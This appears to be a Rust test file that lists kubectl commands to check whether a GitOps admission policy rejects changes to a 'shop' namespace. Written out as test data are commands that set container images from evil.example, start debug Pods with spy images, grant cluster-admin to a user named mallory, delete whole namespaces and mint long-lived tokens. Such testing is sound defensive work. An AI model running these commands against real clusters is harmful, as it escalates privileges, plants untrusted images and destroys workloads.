//! What people type.

use crate::attack::Identity::NamespaceAdmin;
use crate::attack::{Attack, kubectl, kubectl_with};
use crate::report::Section;
use crate::support::shop::{SHOP, WEB};

pub fn section() -> Section {
    Section { title: "Commands", attacks: [workloads(), nodes(), manifests()].concat() }
}

fn workloads() -> Vec<Attack> {
    vec![
        kubectl("restart a rollout", "-n shop rollout restart deployment/web"),
        kubectl("restart a rollout", "-n shop rollout restart deployment/web").by(NamespaceAdmin),
        kubectl("restart a rollout", "-n shop rollout restart statefulset/db"),
        kubectl("go back to the revision before", "-n shop rollout undo deployment/front"),
        kubectl("pause a rollout", "-n shop rollout pause deployment/web"),
        kubectl("scale", "-n shop scale deployment/web --replicas=5").rejected_by("scale"),
        kubectl("scale a custom resource", "-n shop scale widgets/one --replicas=5").rejected_by("scale"),
        kubectl("scale by itself", "-n shop autoscale deployment/web --name=mine --max=50").rejected_by("undeclared"),
        kubectl("another image", "-n shop set image deployment/web web=evil.example/web:1"),
        kubectl("another variable", "-n shop set env deployment/web COLOUR=red"),
        kubectl("other resources", "-n shop set resources deployment/web --limits=cpu=1"),
        kubectl("another account", "-n shop set serviceaccount deployment/web clerk"),
        kubectl("another selector", "-n shop set selector service/web app=mine"),
        kubectl("a label", "-n shop label deployment/web mine=yes"),
        kubectl("an annotation", "-n shop annotate configmap/settings mine=yes"),
        kubectl("a Service for a Deployment", "-n shop expose deployment/web --name=mine --port=80")
            .rejected_by("undeclared"),
        kubectl("a Pod", "-n shop run mine --image=evil.example/evil").rejected_by("undeclared"),
        kubectl("a Job of a CronJob", "-n shop create job mine --from=cronjob/nightly").rejected_by("child"),
        kubectl("debug a Pod", "-n shop debug db-0 --image=evil.example/spy").rejected_by("child-operations"),
        kubectl("debug a declared Pod", "-n shop debug bare --image=evil.example/spy"),
        kubectl("debug a copy of a Pod", "-n shop debug db-0 --image=evil.example/spy --copy-to=mine")
            .rejected_by("undeclared"),
        kubectl("delete", "-n shop delete deployment/web --wait=false"),
        kubectl("delete all that is in a namespace", "-n shop delete deployments,services --all --wait=false"),
        kubectl("a right for me", "-n shop create rolebinding mine --clusterrole=cluster-admin --user=mallory")
            .rejected_by("undeclared"),
        kubectl(
            "a right for me in the whole cluster",
            "create clusterrolebinding mine --clusterrole=cluster-admin --user=mallory",
        )
        .rejected_by("undeclared"),
        kubectl("a token that lasts a day", "-n shop create token clerk --duration=24h")
            .open("RBAC on `serviceaccounts/token`; rules on state make a token worth what Git says"),
    ]
}

fn nodes() -> Vec<Attack> {
    let drained = "a node can be drained, unless Git declares it; its Pods are made anew elsewhere";
    let uncordon = || kubectl("", "uncordon n1").act;
    vec![
        kubectl("cordon", "cordon n1").harmless(drained).then(uncordon()),
        kubectl("taint", "taint node n1 mine=yes:NoSchedule").rejected_by("generated"),
        kubectl("drain", "drain n1 --ignore-daemonsets --force").harmless(drained).then(uncordon()),
        kubectl("label a node", "label node n1 mine=yes").rejected_by("generated"),
        kubectl("debug a node", "debug node/n1 --image=evil.example/spy").rejected_by("undeclared"),
    ]
}

fn manifests() -> Vec<Attack> {
    let older = WEB.replace("COLOUR, value: blue", "COLOUR, value: green");
    vec![
        kubectl_with("an older manifest", "apply -f -", &older),
        kubectl_with("an older manifest, by the server", "apply --server-side --force-conflicts -f -", &older),
        kubectl_with(
            "an older manifest, as Flux applies it",
            "apply --server-side --force-conflicts --field-manager=kustomize-controller -f -",
            &older,
        ),
        kubectl_with("an older manifest in the place of the new", "replace -f -", &older),
        kubectl_with("an older manifest, by force", "replace --force --grace-period=0 -f -", &older),
        kubectl_with(
            "what `helm upgrade` sends: a patch of three versions, and a Secret for the release",
            "-n shop patch deployment web --type=strategic --patch-file=/dev/stdin",
            r#"{"metadata": {"labels": {"app.kubernetes.io/managed-by": "Helm"}}, "spec": {"replicas": 4}}"#,
        ),
        kubectl_with(
            "the settings without what Git says",
            "-n shop replace -f -",
            r#"{"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "settings", "namespace": "shop"}}"#,
        ),
        kubectl_with("the manifest of Git itself", "replace -f -", SHOP)
            .harmless("it is the declared state, whoever writes it"),
    ]
}
